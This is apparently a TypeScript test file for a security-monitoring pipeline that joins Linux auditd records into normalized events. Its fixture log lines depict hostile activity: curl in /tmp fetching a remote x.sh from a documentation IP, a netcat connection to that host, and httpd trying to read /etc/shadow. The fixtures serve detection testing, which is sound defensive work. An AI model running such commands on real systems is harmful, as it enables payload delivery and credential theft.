// The audit join as a pure step: records parsed from real-shaped lines, in
// one batch or cut by a batch boundary, ended by EOE, by the wait, by the
// horizon or by the cap.
import { describe, expect, it } from 'vitest';
import { stableId } from '../../lib/ids.js';
import type { ParsedEvent } from '../../topics/index.js';
import { parseRaw } from '../parser/registry.js';
import { auditRecordOf, DEFAULT_JOIN_LIMITS, joinAuditRecords, joinedEventId, type AuditRecord, type PendingSerial } from './audit-join.js';

const RECEIVED = '2023-11-14T22:15:01.000Z';
const hex = (text: string) => Buffer.from(text, 'utf8').toString('hex').toUpperCase();

/** The records of curl run from /tmp: SYSCALL, EXECVE, CWD, two PATHs, PROCTITLE, EOE. */
function execLines(serial: number, node = 'web1', epoch = '1700000100.512'): string[] {
  const head = (type: string) => `node=${node} type=${type} msg=audit(${epoch}:${serial}):`;
  return [
    `${head('SYSCALL')} arch=c000003e syscall=59 success=yes exit=0 a0=55e1c2f0a4b0 a1=55e1c2f0a510 a2=55e1c2f0a540 a3=0 items=2 ppid=3100 pid=3150 auid=1000 uid=1000 gid=1000 euid=1000 suid=1000 fsuid=1000 egid=1000 sgid=1000 fsgid=1000 tty=pts0 ses=3 comm="curl" exe="/usr/bin/curl" subj=unconfined_u:unconfined_r:unconfined_t:s0-s0:c0.c1023 key="exec"\x1dARCH=x86_64 SYSCALL=execve AUID="alice" UID="alice" GID="alice" EUID="alice" SUID="alice" FSUID="alice" EGID="alice" SGID="alice" FSGID="alice"`,
    `${head('EXECVE')} argc=3 a0="curl" a1="-sO" a2="http://203.0.113.50/x.sh"`,
    `${head('CWD')} cwd="/tmp"`,
    `${head('PATH')} item=0 name="./bin/curl" inode=1311 dev=fd:00 mode=0100755 ouid=0 ogid=0 rdev=00:00 nametype=NORMAL cap_fp=0 cap_fi=0 cap_fe=0 cap_fver=0`,
    `${head('PATH')} item=1 name="/lib64/ld-linux-x86-64.so.2" inode=2277 dev=fd:00 mode=0100755 ouid=0 ogid=0 rdev=00:00 nametype=NORMAL cap_fp=0 cap_fi=0 cap_fe=0 cap_fver=0`,
    `${head('PROCTITLE')} proctitle=${hex('curl\0-sO\0http://203.0.113.50/x.sh')}`,
    `${head('EOE')} `,
  ];
}

/** An AVC that a failed open caused: AVC first, then the syscall's records. */
function deniedOpenLines(serial: number): string[] {
  const head = (type: string) => `type=${type} msg=audit(1700000200.004:${serial}):`;
  return [
    `${head('AVC')} avc:  denied  { read } for  pid=1501 comm="httpd" name="shadow" dev="dm-0" ino=393220 scontext=system_u:system_r:httpd_t:s0 tcontext=system_u:object_r:shadow_t:s0 tclass=file permissive=0`,
    `${head('SYSCALL')} arch=c000003e syscall=257 success=no exit=-13 a0=ffffff9c a1=7ffd1c2a a2=0 a3=0 items=1 ppid=1 pid=1501 auid=4294967295 uid=48 gid=48 euid=48 suid=48 fsuid=48 egid=48 sgid=48 fsgid=48 tty=(none) ses=4294967295 comm="httpd" exe="/usr/sbin/httpd" subj=system_u:system_r:httpd_t:s0 key=(null)`,
    `${head('CWD')} cwd="/"`,
    `${head('PATH')} item=0 name="/etc/shadow" inode=393220 dev=fd:00 mode=0100000 ouid=0 ogid=0 rdev=00:00 obj=system_u:object_r:shadow_t:s0 nametype=NORMAL`,
    `${head('PROCTITLE')} proctitle=${hex('/usr/sbin/httpd\0-DFOREGROUND')}`,
    `${head('EOE')} `,
  ];
}

function records(lines: string[], org = 'org-a'): AuditRecord[] {
  return lines.flatMap((raw) => {
    const { parser, fields } = parseRaw(raw, { source: 'auditd', receivedAt: Date.parse(RECEIVED) });
    const event: ParsedEvent = { artifact_id: stableId('test artifact', raw), org_id: org, source: 'auditd', timestamp: RECEIVED, received_at: RECEIVED, parser, raw, fields };
    return auditRecordOf(event) ?? [];
  });
}

/** Pending serials as hot state holds them between batches. */
function throughState(pending: PendingSerial[]): PendingSerial[] {
  return JSON.parse(JSON.stringify(pending)) as PendingSerial[];
}

const NOW = Date.parse('2026-01-01T00:00:00Z');

describe('which events take part', () => {
  it('kernel records with a serial do; user-space records, journald lines and other formats do not', () => {
    expect(records(execLines(1))).toHaveLength(7);
    expect(records([`type=USER_LOGIN msg=audit(1700000100.512:7): pid=1 uid=0 auid=4294967295 ses=4294967295 msg='op=login acct="alice" exe="/usr/sbin/sshd" hostname=? addr=? terminal=ssh res=failed'`])).toEqual([]);
    expect(records([`Nov 14 22:13:21 web1 audit[2211]: SYSCALL arch=c000003e syscall=59 success=yes exit=0`])).toEqual([]);
    expect(records(['Nov 14 22:13:21 web1 sshd[42]: Failed password for root from 203.0.113.9 port 22 ssh2'])).toEqual([]);
  });
});

describe('joining the records of one serial', () => {
  it('joins a serial whose EOE arrived into one event: process, file, user, outcome, categories', () => {
    const { joined, pending } = joinAuditRecords([], records(execLines(4242)), NOW);
    expect(pending).toEqual([]);
    expect(joined).toHaveLength(1);
    const row = joined[0]!;
    expect(row).toMatchObject({ artifact_id: joinedEventId({ org_id: 'org-a', node: 'web1', epoch: '1700000100.512', serial: 4242 }), org_id: 'org-a', source: 'auditd', parser: 'linux-audit', timestamp: '2023-11-14T22:15:00.512Z', created_at: RECEIVED });
    expect(row.fields).toMatchObject({
      '@timestamp': '2023-11-14T22:15:00.512Z',
      'host.hostname': 'web1',
      'host.architecture': 'x86_64',
      'event.kind': 'event',
      'event.module': 'auditd',
      'event.dataset': 'auditd.event',
      'event.category': ['process'],
      'event.type': ['start'],
      'event.action': 'execve',
      'event.outcome': 'success',
      'process.pid': 3150,
      'process.parent.pid': 3100,
      'process.name': 'curl',
      'process.executable': '/usr/bin/curl',
      'process.args': ['curl', '-sO', 'http://203.0.113.50/x.sh'],
      'process.args_count': 3,
      'process.command_line': 'curl -sO http://203.0.113.50/x.sh',
      'process.title': 'curl -sO http://203.0.113.50/x.sh',
      'process.working_directory': '/tmp',
      'file.path': '/tmp/bin/curl',
      'file.mode': '0755',
      'file.inode': '1311',
      'user.id': '1000',
      'user.name': 'alice',
      'user.audit.id': '1000',
      'user.audit.name': 'alice',
      'rule.name': 'exec',
      'auditd.log.key': 'exec',
      'auditd.log.sequence': 4242,
      'auditd.log.record_type': 'SYSCALL',
      'auditd.log.record_types': ['SYSCALL', 'EXECVE', 'CWD', 'PATH', 'PATH', 'PROCTITLE', 'EOE'],
      'auditd.log.records': 7,
      'auditd.log.complete': true,
      'auditd.log.paths': ['/tmp/bin/curl', '/lib64/ld-linux-x86-64.so.2'],
    });
    expect(row.fields['auditd.log.artifact_ids']).toHaveLength(7);
  });

  it('takes what happened from the record that caused the syscall to be logged (an AVC), the outcome from SYSCALL', () => {
    const [row] = joinAuditRecords([], records(deniedOpenLines(77)), NOW).joined;
    expect(row!.fields).toMatchObject({
      'event.category': ['intrusion_detection', 'file'],
      'event.type': ['denied', 'access'],
      'event.action': 'avc',
      'event.outcome': 'failure',
      'auditd.log.record_type': 'AVC',
      'auditd.log.avc.result': 'denied',
      'auditd.log.syscall_name': 'openat',
      'auditd.log.tclass': 'file',
      'process.name': 'httpd',
      'process.executable': '/usr/sbin/httpd',
      'process.title': '/usr/sbin/httpd -DFOREGROUND',
      'file.path': '/etc/shadow',
      'user.id': '48',
      'auditd.log.complete': true,
    });
    expect(row!.fields['user.audit.id']).toBeUndefined();
  });

  it("names the peer of a connect from its SOCKADDR record", () => {
    const head = 'type=%s msg=audit(1700000300.100:900):';
    const lines = [
      `${head.replace('%s', 'SYSCALL')} arch=c000003e syscall=42 success=no exit=-115 a0=3 a1=7ffc a2=10 a3=0 items=0 ppid=1 pid=2000 auid=1000 uid=1000 gid=1000 euid=1000 suid=1000 fsuid=1000 egid=1000 sgid=1000 fsgid=1000 tty=pts0 ses=3 comm="nc" exe="/usr/bin/nc.openbsd" key="egress"`,
      `${head.replace('%s', 'SOCKADDR')} saddr=02001F90CB0071320000000000000000`,
      `${head.replace('%s', 'PROCTITLE')} proctitle=${hex('nc\x00203.0.113.50\x008080')}`,
      `${head.replace('%s', 'EOE')} `,
    ];
    const [row] = joinAuditRecords([], records(lines), NOW).joined;
    expect(row!.fields).toMatchObject({ 'destination.ip': '203.0.113.50', 'destination.port': 8080, 'event.category': ['network'], 'event.action': 'connect', 'event.outcome': 'failure' });
    expect(row!.fields['host.hostname']).toBeUndefined();
  });

  it('joins a serial cut by a batch boundary as if it had come in one batch, and holds a redelivered record once', () => {
    const all = records(execLines(4243));
    const whole = joinAuditRecords([], all, NOW).joined;
    const first = joinAuditRecords([], all.slice(0, 3), NOW);
    expect(first.joined).toEqual([]);
    expect(first.pending).toHaveLength(1);
    // The second batch comes 300 ms later, and (redelivered after a crash) with the first one's last record again.
    const second = joinAuditRecords(throughState(first.pending), all.slice(2), NOW + 300);
    expect(second.pending).toEqual([]);
    expect(second.joined).toEqual(whole);
  });

  it('ends a serial without EOE after the wait, marked incomplete; a single record joins nothing', () => {
    const all = records(execLines(4244)).slice(0, 3);
    const lone = records(['type=LOGIN msg=audit(1700000100.600:4300): pid=2211 uid=0 old-auid=4294967295 auid=1000 tty=(none) old-ses=4294967295 ses=3 res=1']);
    const held = joinAuditRecords([], [...all, ...lone], NOW);
    expect(held.joined).toEqual([]);
    expect(held.pending).toHaveLength(2);
    // A batch with no audit records, before and after the wait.
    expect(joinAuditRecords(throughState(held.pending), [], NOW + DEFAULT_JOIN_LIMITS.maxWaitMs - 1).pending).toHaveLength(2);
    const ended = joinAuditRecords(throughState(held.pending), [], NOW + DEFAULT_JOIN_LIMITS.maxWaitMs);
    expect(ended.pending).toEqual([]);
    expect(ended.joined).toHaveLength(1);
    expect(ended.joined[0]!.fields).toMatchObject({ 'auditd.log.complete': false, 'auditd.log.records': 3, 'auditd.log.record_types': ['SYSCALL', 'EXECVE', 'CWD'], 'process.args': ['curl', '-sO', 'http://203.0.113.50/x.sh'] });
  });

  it('ends a serial when its host has moved on past the horizon in audit time (the printk form has no EOE)', () => {
    const open = records(deniedOpenLines(500)).slice(0, 2);
    const held = joinAuditRecords([], open, NOW);
    expect(held.pending).toHaveLength(1);
    // Another host's records say nothing about this one's.
    const elsewhere = records(execLines(9, 'db1', '1700000260.000').slice(0, 1));
    expect(joinAuditRecords(throughState(held.pending), elsewhere, NOW + 10).pending).toHaveLength(2);
    // The same host (no node: "") 2.5 s later in audit time.
    const later = records([`type=SYSCALL msg=audit(1700000202.504:501): arch=c000003e syscall=2 success=yes exit=3 items=1 pid=1 comm="x"`]);
    const ended = joinAuditRecords(throughState(held.pending), later, NOW + 10);
    expect(ended.joined.map((r) => r.fields['auditd.log.sequence'])).toEqual([500]);
    expect(ended.joined[0]!.fields['auditd.log.complete']).toBe(false);
    expect(ended.pending.map((s) => s.serial)).toEqual([501]);
  });

  it('ends the oldest serials past the cap', () => {
    const limits = { ...DEFAULT_JOIN_LIMITS, maxPending: 2 };
    const batch = [1, 2, 3].flatMap((serial) => records(execLines(serial)).slice(0, 2));
    const { joined, pending } = joinAuditRecords([], batch, NOW, limits);
    expect(joined.map((r) => r.fields['auditd.log.sequence'])).toEqual([1]);
    expect(pending.map((s) => s.serial)).toEqual([2, 3]);
  });

  it('keeps the records of different organizations and hosts apart, and writes a serial sent twice in a batch once', () => {
    const batch = [...records(execLines(10), 'org-a'), ...records(execLines(10), 'org-b'), ...records(execLines(10, 'web2'))];
    const { joined } = joinAuditRecords([], batch, NOW);
    expect(new Set(joined.map((r) => r.artifact_id)).size).toBe(3);
    expect(joined.map((r) => [r.org_id, r.fields['host.hostname']])).toEqual([
      ['org-a', 'web1'],
      ['org-b', 'web1'],
      ['org-a', 'web2'],
    ]);
    // The same lines again as new artifacts (a sensor sending twice): one joined event per id.
    const resent = records(execLines(11)).map((r) => ({ ...r, artifact_id: stableId('again', r.artifact_id) }));
    expect(joinAuditRecords([], [...records(execLines(11)), ...resent], NOW).joined).toHaveLength(1);
  });

  it('cuts long values in what it holds, and counts records past the cap', () => {
    const long = 'A'.repeat(20_000);
    const lines = execLines(12);
    lines[1] = `type=EXECVE msg=audit(1700000100.512:12): argc=2 a0="perl" a1="${long}"`.replace('type=EXECVE', 'node=web1 type=EXECVE');
    const paths = Array.from({ length: 70 }, (_, i) => `node=web1 type=PATH msg=audit(1700000100.512:12): item=${i + 2} name="/tmp/f${i}" nametype=CREATE`);
    const batch = records([...lines.slice(0, -1), ...paths, lines.at(-1)!]);
    const [row] = joinAuditRecords([], batch, NOW).joined;
    expect((row!.fields['process.args'] as string[])[1]).toHaveLength(4096);
    expect(row!.fields['auditd.log.records']).toBe(77);
    expect(row!.fields['auditd.log.record_types']).toHaveLength(64);
  });
});
